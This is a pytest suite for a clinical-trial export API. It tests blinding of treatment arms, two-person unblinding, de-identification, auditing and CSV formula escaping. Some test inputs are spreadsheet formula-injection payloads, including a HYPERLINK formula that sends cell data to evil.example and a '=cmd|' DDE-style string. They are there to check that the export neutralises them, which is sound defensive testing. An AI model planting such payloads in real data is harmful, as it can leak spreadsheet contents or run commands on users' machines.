"""Who may export, blinding (the arm column), unblinding, de-identification, formula escaping, dates and the audit."""

from __future__ import annotations

import io
import json
import re

import pandas as pd
import pyreadstat
import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.db import connection
from psycopg import sql

from assessments import links
from assessments import services as assessments
from audit.models import AuditEvent
from exports.columns import escape_cell, escape_sql
from exports.datasets import DATASETS
from participants.models import AllocationSlot, ContactDetails, Study, UnblindingApproval
from scheduling.models import Visit
from tests.exports.conftest import body_of, noon
from tests.factories import unblind_by_api

pytestmark = pytest.mark.django_db

ALL = [*DATASETS, "codebook"]
ROWS = [f"{d}.{f}" for d in DATASETS for f in ("csv", "json", "sav", "dta")] + [
    "scores.csv?layout=wide",
    "scores.json?layout=wide",
    "codebook.csv",
    "codebook.json",
]


def columns_of(url: str, body: bytes, tmp_path) -> list[str]:
    fmt = url.split("?")[0].rsplit(".", 1)[1]
    if url.startswith("codebook"):
        table = pd.read_csv(io.BytesIO(body)) if fmt == "csv" else pd.DataFrame(json.loads(body))
        return sorted(set(table["variable"]))  # the codebook describes the columns in its rows
    if fmt == "csv":
        return list(pd.read_csv(io.BytesIO(body), nrows=0).columns)
    if fmt == "json":
        rows = json.loads(body)
        return list(rows[0]) if rows else []
    path = tmp_path / f"x.{fmt}"
    path.write_bytes(body)
    _, meta = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(path), metadataonly=True)
    return list(meta.column_names)


@pytest.mark.parametrize("role", ["coordinator", "therapist", "rater"])
def test_roles_without_export_rights_get_403(answered, personas, api, role):
    for dataset in ALL:
        assert api(personas[role]).get(f"/api/v1/export/{dataset}.csv").status_code == 403
    assert api(personas[role]).get("/api/v1/export/freezes/").status_code == 403
    assert api().get("/api/v1/export/responses.csv").status_code in (401, 403)


@pytest.mark.parametrize("role", ["statistician", "unblinded_statistician", "investigator", "admin"])
def test_export_roles_may_export(answered, personas, api, role):
    assert api(personas[role]).get("/api/v1/export/responses.csv").status_code == 200


def test_arm_column_only_for_the_unblinded_statistician_after_unblinding(trial, personas, api, tmp_path):
    study = Study.objects.get(code="MAP")
    blinded_users = ["statistician", "unblinded_statistician", "investigator", "admin"]
    for role in blinded_users:
        for url in ROWS:
            r = api(personas[role]).get(f"/api/v1/export/{url}")
            body = body_of(r)
            assert r.status_code == 200, (role, url)
            assert "arm" not in columns_of(url, body, tmp_path), (role, url)
            assert b"mdma" not in body and b"placebo" not in body, (role, url)

    r = unblind_by_api(api, study.code, personas["investigator"], personas["unblinded_statistician"])
    assert r.status_code == 200, r.content

    for role in ["statistician", "investigator", "admin"]:
        for url in ROWS:
            body = body_of(api(personas[role]).get(f"/api/v1/export/{url}"))
            assert "arm" not in columns_of(url, body, tmp_path), (role, url)
            assert b"mdma" not in body and b"placebo" not in body, (role, url)

    unblinded = personas["unblinded_statistician"]
    for url in ROWS:
        body = body_of(api(unblinded).get(f"/api/v1/export/{url}"))
        assert "arm" in columns_of(url, body, tmp_path), url
    df = pd.read_csv(io.BytesIO(body_of(api(unblinded).get("/api/v1/export/participants.csv"))))
    truth = dict(
        AllocationSlot.objects.filter(participant__isnull=False, participant__site__code="PDX").values_list(
            "participant__participant_id", "arm__code"
        )
    )
    assert dict(zip(df.participant_id, df.arm, strict=True)) == truth
    df = pd.read_csv(io.BytesIO(body_of(api(unblinded).get("/api/v1/export/responses.csv"))))
    assert set(df.arm) == {truth[trial[0].participant_id]}
    event = AuditEvent.objects.filter(entity_type="export", actor=unblinded).last()
    assert event.sensitivity == "allocation"


def test_a_blinded_role_held_alongside_wins(trial, personas, api):
    from participants.services import membership_grant

    study = Study.objects.get(code="MAP")
    unblind_by_api(api, study.code, personas["investigator"], personas["unblinded_statistician"])
    unblinded = personas["unblinded_statistician"]
    membership_grant(user=unblinded, site=trial[0].site, role="statistician", by=None)
    assert b"arm" not in body_of(api(unblinded).get("/api/v1/export/participants.csv")).split(b"\r\n")[0]


def test_unblinding_takes_two_approvals_once_and_audited(answered, personas, api):
    url = "/api/v1/studies/MAP/unblind/"
    for role in ["statistician", "coordinator", "rater", "therapist"]:
        r = api(personas[role]).post(url, {"reason": "x"})
        assert r.status_code == 403 and "approve unblinding" in r.json()["detail"], role
    assert api(personas["investigator"]).post(url, {}).status_code == 400
    assert not Study.objects.get(code="MAP").unblinded and not UnblindingApproval.objects.exists()
    r = unblind_by_api(
        api, "MAP", personas["investigator"], personas["unblinded_statistician"], reason="primary analysis"
    )
    assert r.status_code == 200 and r.json()["unblinded"] is True and r.json()["awaiting"] is None
    event = AuditEvent.objects.get(entity_type="study", field="unblinded")
    assert "primary analysis" in event.reason and event.actor == personas["unblinded_statistician"]
    assert event.old_value is False and event.new_value is True
    approvals = AuditEvent.objects.filter(entity_type="unblinding_approval", field="approval").order_by("id")
    assert [e.actor for e in approvals] == [personas["investigator"], personas["unblinded_statistician"]]
    again = api(personas["admin"]).post(url, {"reason": "again"})
    assert again.status_code == 400 and "already unblinded" in again.json()["detail"]
    assert UnblindingApproval.objects.count() == 2
    assert api(personas["investigator"]).post("/api/v1/studies/NOPE/unblind/", {"reason": "x"}).status_code == 404


ADVERSARIAL = {
    "full_name": '=HYPERLINK("http://evil.example/?q="&A1,"Zed Quux")',
    "phone": "+1 (503) 555-0199",
}
EMAIL = 'zed.quux,"evil"\r\n=cmd|@evil.example'


def test_no_contact_data_token_free_text_or_date_in_any_dataset(trial, personas, api, alice, tmp_path):
    p1 = trial[0]
    ContactDetails.objects.filter(participant=p1).update(email=EMAIL, **ADVERSARIAL)
    visit = Visit.objects.get(participant=p1, code="FU")
    from scheduling.services import deviation_record

    deviation_record(
        participant=p1, type="other", description="Zed Quux called from 555-0199 on 2031-02-03", visit=visit, by=alice
    )
    endpoint = Visit.objects.get(participant=p1, code="ENDPOINT")
    with time_machine.travel(noon(endpoint.window_start, p1.time_zone)):
        _link, token = assessments.link_issue(visit=endpoint, by=alice)
    needles = [
        "Zed",
        "Quux",
        "HYPERLINK",
        "evil",
        "555-0199",
        "ada@example.org",
        "Ada Example",
        "moved away",
        "called, safe",
        "Bo Example",
        "nausea after the dose",
    ]
    needles += [token, links.token_hash(token)]
    date_re = re.compile(rb"\b(19|20)\d\d-\d\d-\d\d\b")
    for role in ["statistician", "investigator", "admin", "unblinded_statistician"]:
        for url in ROWS:
            body = body_of(api(personas[role]).get(f"/api/v1/export/{url}"))
            for needle in needles:
                assert needle.encode() not in body, (role, url, needle)
            if not url.startswith("codebook"):
                assert not date_re.search(body), (role, url, date_re.search(body))


def test_formula_escaping_function_and_sql_agree():
    cases = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "safe", "", "a=b", "'=already"]
    for case in cases:
        with connection.cursor() as cursor:
            query = sql.SQL("SELECT {}").format(escape_sql(sql.Literal(case)))
            cursor.execute(query.as_string(connection.connection))
            assert cursor.fetchone()[0] == escape_cell(case), case
    assert escape_cell("=1+1") == "'=1+1" and escape_cell("safe") == "safe" and escape_cell(-3) == -3
    assert escape_cell(None) is None


@pytest.mark.parametrize("force_python", [False, True])
def test_formula_cells_escaped_through_the_stratum_column(
    make_participant, statistician, api, force_python, monkeypatch
):
    """A coordinator types the stratum label of a participant still in screening: free-form text that the
    participants dataset exports. Numbers (negative study days) are never touched."""
    from django.db import transaction

    from participants import services
    from tests.factories import staff

    coordinator = staff("strata-coordinator", "coordinator", statistician.memberships.first().site)
    with transaction.atomic():
        services.participant_create(
            study=Study.objects.get(code="MAP"),
            site=coordinator.memberships.first().site,
            by=coordinator,
            stratum='=HYPERLINK("http://x","y")',
        )
        services.participant_create(
            study=Study.objects.get(code="MAP"),
            site=coordinator.memberships.first().site,
            by=coordinator,
            stratum="-2+3",
        )
    if force_python:
        monkeypatch.setattr("exports.services.exports._on_postgres", lambda force: False)
    body = body_of(api(statistician).get("/api/v1/export/participants.csv"))
    assert b'\'=HYPERLINK(""http://x"",""y"")' in body
    assert b",'-2+3," in body
    assert b",=HYPERLINK" not in body and b',"=HYPERLINK' not in body
    # JSON is not a spreadsheet format: the value comes through exactly.
    rows = json.loads(body_of(api(statistician).get("/api/v1/export/participants.json")))
    assert {r["stratum"] for r in rows} == {'=HYPERLINK("http://x","y")', "-2+3"}


def test_negative_numbers_are_not_escaped(answered, statistician, alice, api):
    from scheduling.services import deviation_record

    visit = Visit.objects.get(participant=answered, code="BASELINE")
    deviation_record(
        participant=answered, type="out_of_window", description="early", visit=visit, days_outside=-3, by=alice
    )
    body = body_of(api(statistician).get("/api/v1/export/deviations.csv"))
    assert b",BASELINE,out_of_window,-3," in body
    assert b"'-" not in body


def test_dates_need_the_permission_and_are_audited(trial, statistician, api):
    r = api(statistician).get("/api/v1/export/visits.csv?dates=iso")
    assert r.status_code == 403
    statistician.user_permissions.add(Permission.objects.get(codename="export_dates"))
    from django.contrib.auth import get_user_model

    statistician = get_user_model().objects.get(pk=statistician.pk)  # drop the permission cache
    r = api(statistician).get("/api/v1/export/visits.csv?dates=iso")
    assert r.status_code == 200
    df = pd.read_csv(io.BytesIO(body_of(r)))
    # Blinded: dates of the timepoints whose visits are due at the same time in every arm (baseline is).
    visit = Visit.objects.get(participant=trial[0], code="BASELINE")
    row = df[(df.participant_id == trial[0].participant_id) & (df.timepoint == "BASELINE")].iloc[0]
    assert row["target_date"] == visit.target_date.isoformat()
    assert row["window_end_date"] == visit.window_end.isoformat()
    assert "visit_code" not in df.columns
    event = AuditEvent.objects.filter(entity_type="export").last()
    assert event.new_value["dates"] == "iso" and event.actor == statistician


def test_every_export_is_audited_when_the_stream_ends(trial, statistician, api):
    before = AuditEvent.objects.filter(entity_type="export").count()
    r = api(statistician).get("/api/v1/export/responses.csv?instrument=PCL5&visit_code=BASELINE")
    assert AuditEvent.objects.filter(entity_type="export").count() == before  # nothing streamed yet
    body = body_of(r)
    event = AuditEvent.objects.filter(entity_type="export").last()
    assert AuditEvent.objects.filter(entity_type="export").count() == before + 1
    assert event.action == "export" and event.actor == statistician and event.entity_id == "responses"
    assert event.new_value["rows"] == body.count(b"\r\n") - 1 == 20
    assert event.new_value["complete"] is True
    assert event.new_value["filters"] == {"instrument": ["PCL5"], "visit_code": ["BASELINE"]}
    assert event.new_value["format"] == "csv"
    json_rows = json.loads(body_of(api(statistician).get("/api/v1/export/scores.json")))
    assert AuditEvent.objects.filter(entity_type="export").last().new_value["rows"] == len(json_rows)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_abandoned_download_is_audited_as_incomplete(trial, statistician, monkeypatch, fmt):
    """The client hangs up while PostgreSQL is still sending rows: the WSGI server closes our generator mid-COPY.
    The audit row is still written (marked incomplete) and the connection stays usable."""
    from exports import formats, services

    monkeypatch.setattr(formats, "CHUNK", 64)  # hand over a chunk after every row or two: the COPY is mid-way
    export = services.export_open(user=statistician, dataset="responses", fmt=fmt)
    next(export.chunks)
    export.chunks.close()
    event = AuditEvent.objects.filter(entity_type="export").last()
    assert event.new_value["complete"] is False and event.actor == statistician
    assert 0 <= event.new_value["rows"] < 70
    assert AuditEvent.objects.filter(entity_type="export").count() == 1


def test_another_sites_study_and_site_look_unknown(answered, personas, api, nyc):
    """No existence oracle: a study or site outside the user's own sites answers as an unknown code does (404 for
    unblinding, 400 naming the parameter for an export), never a 403 that would say it exists."""
    from django.db import transaction

    from participants.services import study_create
    from tests.factories import SiteFactory, staff
    from trialsite.roles import Role

    outsider = staff("olga", Role.INVESTIGATOR, SiteFactory(code="SEA"))  # a site that does not run MAP
    unknown = api(outsider).post("/api/v1/studies/NOPE/unblind/", {"reason": "x"})
    elsewhere = api(outsider).post("/api/v1/studies/MAP/unblind/", {"reason": "x"})
    assert (unknown.status_code, elsewhere.status_code) == (404, 404)
    assert unknown.json() == elsewhere.json()
    assert not Study.objects.get(code="MAP").unblinded and not AuditEvent.objects.filter(field="unblinded").exists()
    statistician = api(personas["statistician"])  # a statistician at PDX only
    for param, code in (("site", "NYC"), ("site", "NOWHERE")):
        r = statistician.get("/api/v1/export/visits.csv", {param: code})
        assert r.status_code == 400 and r.json()[param] == [f"no site {code}"] and r.json()["detail"] == "unknown site"
    with transaction.atomic():
        study_create(code="OTH", title="Another study", blinded=True, protocol_code="mapp-v1", by=None)
    for code in ("OTH", "NOWHERE"):
        r = statistician.get("/api/v1/export/visits.csv", {"study": code})
        assert r.status_code == 400 and r.json()["study"] == [f"no study {code}"]
